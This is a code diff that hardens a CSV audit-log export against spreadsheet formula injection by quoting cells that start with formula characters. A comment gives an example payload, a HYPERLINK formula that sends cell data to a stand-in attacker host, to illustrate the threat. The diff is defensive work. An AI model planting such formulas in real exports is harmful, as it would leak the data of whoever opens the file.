@@ -27,9 +27,15 @@ function where(filters: AuditFilters): string {
 
 const FROM = "FROM audit_events e LEFT JOIN releases r ON r.id = e.release_id";
 
+// A spreadsheet runs a cell starting with = + - @ (or a tab or CR) as a formula, and anyone may
+// write text that lands here (titles, names, reasons): =HYPERLINK("https://evil.example/?"&A1)
+// would turn a reviewer's Excel against them. OWASP's remedy, a leading single quote, is added in
+// the statement so the file still streams straight from COPY. Ids, times and hashes never start so.
+const cell = (expr: string) => `CASE WHEN left(${expr}, 1) IN ('=', '+', '-', '@', E'\\t', E'\\r') THEN '''' || ${expr} ELSE ${expr} END`;
+
 // The header row is these names, in this order.
-const CSV_SELECT = `e.id, ${iso} AS at, e.actor_type, e.actor_id, e.actor_label AS actor, e.release_id, r.title AS release_title, e.action,
-  e.summary AS description, e.before, e.after, e.prev_hash, e.hash`;
+const CSV_SELECT = `e.id, ${iso} AS at, e.actor_type, e.actor_id, ${cell("e.actor_label")} AS actor, e.release_id, ${cell("r.title")} AS release_title,
+  ${cell("e.action")} AS action, ${cell("e.summary")} AS description, ${cell("e.before::text")} AS before, ${cell("e.after::text")} AS after, e.prev_hash, e.hash`;
 
 // One JSON object per line; every line but the last ends with a comma, so that the route only
 // wraps the lines in [ and ] to make one array. json_build_object escapes every control
